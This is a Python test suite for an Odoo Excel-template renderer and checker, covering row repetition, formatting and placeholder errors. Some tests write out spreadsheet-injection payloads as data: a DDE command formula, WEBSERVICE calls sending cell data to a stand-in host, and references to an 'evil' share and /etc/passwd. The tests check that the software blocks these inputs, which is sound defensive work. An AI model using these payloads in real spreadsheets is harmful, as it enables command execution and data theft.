import datetime
import time

from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from odoo.tests import tagged

from ..tools.template_xlsx import check_xlsx
from ..tools.values import Number
from .common import SCHEMA, DocumentCommon, read_csv

RISKY = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|'/c calc'!A0", " =1+1")


@tagged("post_install", "-at_install")
class TestExcelTemplates(DocumentCommon):
    def _column(self, sheet, letter):
        return [cell.value for cell in sheet[letter]]

    def test_a_row_with_an_item_repeats(self):
        content, sheet = self._render_xlsx(
            {
                "A1": "No. {{ number }} of {{ customer.name }}",
                "A3": "{{ line.number }}",
                "B3": "{{ line.name }}",
                "C3": "{{ line.subtotal }}",
                "B4": "Total",
                "C4": "=SUM(C3)",
            }
        )
        self.assertEqual(sheet["A1"].value, "No. S00001 of 成都朗速科技有限公司")
        self.assertEqual(self._column(sheet, "C")[2:], [10.25, 20.5, 30.75, "=SUM(C3:C5)"])
        rows = read_csv(content)
        self.assertEqual(rows[0][0], "No. S00001 of 成都朗速科技有限公司")
        self.assertEqual([row[1] for row in rows[2:]], ["水泵 1", "水泵 2", "水泵 3", "Total"])
        self.assertEqual(rows[5][2], "61.5")

    def test_values_keep_their_types(self):
        date = datetime.date(2026, 11, 26)
        _content, sheet = self._render_xlsx(
            {"A1": "{{ date }}", "A2": "{{ total }}", "A3": "{{ total | money }}", "A4": "{{ x }}"},
            {"date": date, "x": True},
        )
        self.assertEqual(sheet["A1"].value, datetime.datetime(2026, 11, 26))
        self.assertEqual(sheet["A1"].number_format, "yyyy-mm-dd")
        self.assertEqual(sheet["A2"].value, 1234.5)
        self.assertEqual(sheet["A2"].number_format, "#,##0.00")
        self.assertEqual(sheet["A3"].value, "1,234.50")
        self.assertIs(sheet["A4"].value, True)

    def test_number_formats_of_the_author_are_kept(self):
        def edit(sheet):
            sheet["A1"].number_format = '"¥"#,##0.000'

        _content, sheet = self._render_xlsx({"A1": "{{ total }}"}, edit=edit)
        self.assertEqual(sheet["A1"].number_format, '"¥"#,##0.000')

    def test_text_of_users_is_never_a_formula(self):
        lines = [self._make_line(n, name=text) for n, text in enumerate(RISKY, 1)]
        content, sheet = self._render_xlsx(
            {"A1": "{{ line.name }}", "B1": "{{ line.name }} {{ line.number }}"}, {"lines": lines}
        )
        for cell in [*sheet["A"], *sheet["B"]]:
            self.assertEqual(cell.data_type, "s", cell.value)
            self.assertTrue(cell.quotePrefix, cell.value)
        shown = [row[0] for row in read_csv(content)]
        self.assertEqual(shown[:4], ["=1+1", "+1", "-1", "@SUM(A1)"])

    def test_styles_heights_merges_and_print_areas_follow(self):
        def edit(sheet):
            sheet["A5"].font = Font(bold=True, color="FF0000")
            sheet.row_dimensions[5].height = 33
            sheet.column_dimensions["A"].width = 44
            sheet.merge_cells("A5:B5")
            sheet.merge_cells("A6:B7")
            sheet.merge_cells("D4:D6")
            sheet.print_area = "A1:D7"
            sheet.print_title_rows = "4:4"
            sheet.freeze_panes = "A5"
            sheet.conditional_formatting.add(
                "C5:C5", CellIsRule("greaterThan", ["$C$6"], fill=PatternFill("solid"))
            )

        _content, sheet = self._render_xlsx(
            {
                "A4": "Head",
                "A5": "{{ line.name }}",
                "C5": "{{ line.subtotal }}",
                "A6": "End",
                "C6": "=AVERAGE(C5:C5)",
                "D4": "side",
            },
            edit=edit,
        )
        merged = sorted(str(area) for area in sheet.merged_cells.ranges)
        self.assertEqual(merged, ["A5:B5", "A6:B6", "A7:B7", "A8:B9", "D4:D8"])
        self.assertEqual([sheet.row_dimensions[row].height for row in (5, 6, 7)], [33] * 3)
        self.assertEqual(sheet.column_dimensions["A"].width, 44)
        self.assertTrue(all(sheet.cell(row, 1).font.bold for row in (5, 6, 7)))
        self.assertEqual(sheet.print_area, "'Quotation'!$A$1:$D$9")
        self.assertEqual(sheet.print_title_rows, "$4:$4")
        self.assertEqual(sheet["C8"].value, "=AVERAGE(C5:C7)")
        formatting = next(iter(sheet.conditional_formatting))
        self.assertEqual(str(formatting.sqref), "C5:C7")
        self.assertEqual(formatting.rules[0].formula, ["$C$8"])

    def test_formulas_of_a_line_stay_in_their_row(self):
        content, sheet = self._render_xlsx(
            {
                "A1": "{{ line.quantity }}",
                "B1": "{{ line.price }}",
                "C1": "=A1*B1",
                "C2": "=SUM(C1:C1)",
                "C3": "=C2*0.1",
                "D3": "=SUM(D1:D2)",
            },
        )
        self.assertEqual(
            self._column(sheet, "C"),
            ["=A1*B1", "=A2*B2", "=A3*B3", "=SUM(C1:C3)", "=C4*0.1"],
        )
        self.assertEqual(read_csv(content)[3][2], "61.5")

    def test_no_lines_at_all(self):
        content, sheet = self._render_xlsx(
            {"A1": "Head", "A2": "{{ line.subtotal }}", "A3": "=SUM(A2)"}, {"lines": []}
        )
        self.assertEqual(self._column(sheet, "A"), ["Head", "=SUM(0)"])
        self.assertEqual(read_csv(content)[1][0], "0")

    def test_blocks_of_rows_and_conditions(self):
        _content, sheet = self._render_xlsx(
            {
                "A1": "{% for line in lines if line.number != 2 %}",
                "A2": "{{ loop.index }}. {{ line.name }}",
                "A3": "{% if line.number > 2 %}",
                "A4": "large",
                "A5": "{% else %}",
                "A6": "small",
                "A7": "{% endif %}",
                "A8": "{% endfor %}",
                "A9": "{% if note %}note{% else %}no note{% endif %}",
            }
        )
        self.assertEqual(
            self._column(sheet, "A"), ["1. 水泵 1", "small", "2. 水泵 3", "large", "no note"]
        )

    def test_a_loop_in_one_row(self):
        _content, sheet = self._render_xlsx(
            {"A1": "{% for line in lines %}{{ line.number }}", "B1": "{{ line.name }}{% endfor %}"}
        )
        self.assertEqual(self._column(sheet, "A"), [1, 2, 3])

    def test_pictures(self):
        content, sheet = self._render_xlsx(
            {"A1": "{{ image(company.logo, 30) }}", "A2": "{{ image(note) }}"}
        )
        self.assertEqual(len(sheet._images), 1)
        self.assertIsNone(sheet["A1"].value)
        self.assertGreater(sheet.row_dimensions[1].height, 30)
        self.assertTrue(read_csv(content) is not None)

    def test_what_may_not_be_read_prints_nothing(self):
        _content, sheet = self._render_xlsx({"A1": "{{ line.margin }}", "B1": "{{ line.name }}"})
        self.assertEqual(self._column(sheet, "A"), [None] * 3)

    def test_many_lines(self):
        lines = [self._make_line(n) for n in range(3000)]
        start = time.perf_counter()
        _content, sheet = self._render_xlsx(
            {"A1": "{{ line.name }}", "B1": "{{ line.subtotal }}", "B2": "=SUM(B1)"},
            {"lines": lines},
        )
        self.assertEqual(sheet.max_row, 3001)
        self.assertEqual(sheet["B3001"].value, "=SUM(B1:B3000)")
        self.assertLess(time.perf_counter() - start, 20)

    def test_the_number_of_cells_has_an_end(self):
        cells = {f"{letter}1": "{{ line.number }}" for letter in "ABCDEFGHIJKL"}
        self.assertProblem(
            "more than 1,000,000 cells", self._render_xlsx, cells, {"lines": [{}] * 90_000}
        )

    # === CHECK === #

    def test_a_wrong_placeholder_is_named_with_its_cell_and_the_nearest_name(self):
        problems = self._check_xlsx(
            {
                "A1": "{{ numbr }}",
                "C12": "{{ line.subtotl }}",
                "D12": "{{ costumer.name }}",
                "B2": "{{ customer.nam }}",
                "B3": "{{ total | mony }}",
                "B4": "{{ totally_unknown_x }}",
            }
        )
        self.assertEqual(
            problems,
            [
                "Quotation!A1: “numbr” is unknown; did you mean “number”?",
                "Quotation!B2: “customer.nam” is unknown; did you mean “customer.name”?",
                "Quotation!B3: “mony” is unknown; did you mean “money”?",
                "Quotation!B4: “totally_unknown_x” is unknown.",
                "Quotation!C12: “line.subtotl” is unknown; did you mean “line.subtotal”?",
                "Quotation!D12: “costumer” is unknown; did you mean “customer”?",
            ],
        )

    def test_syntax_is_checked(self):
        for cells, expected in (
            ({"A1": "{{ number"}, "Quotation!A1: “{{” is not closed"),
            ({"A1": "{% for line in lines %}"}, "Quotation!A1: {% for … %} is never closed"),
            ({"B2": "{% endif %}"}, "Quotation!B2: {% endif %} stands without"),
            ({"A1": "{% for x in customer %}", "A2": "{% endfor %}"}, "“customer” is no list"),
            ({"A1": "{% fro line in lines %}"}, "did you mean “for”?"),
            ({"A1": "{% set x = 1 %}"}, "“set” is not allowed"),
            ({"A1": "{{ number + }}"}, "not understood"),
            ({"A1": "{{ lines.append(1) }}"}, "only image(…) can"),
            ({"A1": "=SUM({{ total }})"}, "a formula cannot hold placeholders"),
            ({"A1": '=WEBSERVICE("http://x")'}, "reaches outside"),
            ({"A1": "=cmd|'/c calc'!A0"}, "reaches outside"),
        ):
            with self.subTest(expected):
                self.assertIn(expected, "\n".join(self._check_xlsx(cells)))

    def test_formulas_that_reach_outside_however_they_are_spelled(self):
        for formula in (
            '=_xlfn.WEBSERVICE("http://x/"&A2)',
            '=IF(1,_xlfn.IMAGE("http://x"),"")',
            '=COM.MICROSOFT.WEBSERVICE("x")',
            "=\"a\"&cmd|'/c calc'!A0",
            "='\\\\evil\\share\\[a.xlsx]S'!A1",
            "='file:///etc/passwd'#$S.A1",
            "=[1]S!A1",
        ):
            with self.subTest(formula):
                self.assertIn("reaches outside", "\n".join(self._check_xlsx({"A1": formula})))
        for formula in ('="a|b://"&A2', "='a|b'!A1", "=SUM(T[a]*B!A1)", '=HYPERLINK("http://x")'):
            with self.subTest(formula):
                self.assertEqual(self._check_xlsx({"A1": formula}), [])

    def test_formulas_behind_names_colours_and_choices(self):
        formula = '_xlfn.WEBSERVICE("http://x/"&Quotation!$A$1)'

        def name(sheet):
            sheet.parent.defined_names["spy"] = DefinedName("spy", attr_text=formula)

        def colour(sheet):
            sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=[formula]))

        def choice(sheet):
            validation = DataValidation(type="list", formula1=formula)
            validation.add("B2")
            sheet.add_data_validation(validation)

        for edit, place in ((name, "spy"), (colour, "A1:A9"), (choice, "B2")):
            content = self._make_xlsx({"A1": "{{ number }}"}, edit=edit)
            [problem] = check_xlsx(content, self._sandbox(False), SCHEMA)
            self.assertIn(place, problem.describe(self.env))
            self.assertIn("reaches outside", problem.describe(self.env))

    def test_cells_that_are_far_apart(self):
        """Between them lie seventeen billion cells, which nobody looks at."""
        start = time.perf_counter()
        self.assertEqual(self._check_xlsx({"A1": "{{ number }}", "XFD20000": 1}), [])
        far = self._check_xlsx({"A1": "{{ number }}", "XFD1048576": 1})
        self.assertIn("something in row 1048576", far[0])
        self.assertLess(time.perf_counter() - start, 5)

    def test_what_is_no_number_is_not_written(self):
        for text in ("{{ 1e308 * 10 }}", "{{ 1e308 * 10 - 1e308 * 10 }}"):
            self.assertProblem("Quotation!B7", self._render_xlsx, {"B7": text})

    def test_a_good_template_has_no_problems(self):
        cells = {
            "A1": "{{ number }}{# remark #}",
            "A2": "{{ line.name | upper }} {{ loop.index }}",
            "A3": "{% if total > 5 and lines | length %}x{% endif %}",
            "A4": "{{ lines | sum('subtotal') | money }}",
        }
        self.assertEqual(self._check_xlsx(cells), [])

    def test_an_error_while_rendering_names_the_cell(self):
        self.assertProblem("Quotation!B7", self._render_xlsx, {"B7": "{{ customer.name + 1 }}"})

    def test_sums_add_up_in_cents(self):
        lines = [self._make_line(n, subtotal=Number(0.1)) for n in range(3)]
        _content, sheet = self._render_xlsx(
            {"A1": "{{ lines | sum('subtotal') }}"}, {"lines": lines}
        )
        self.assertEqual(sheet["A1"].value, 0.3)
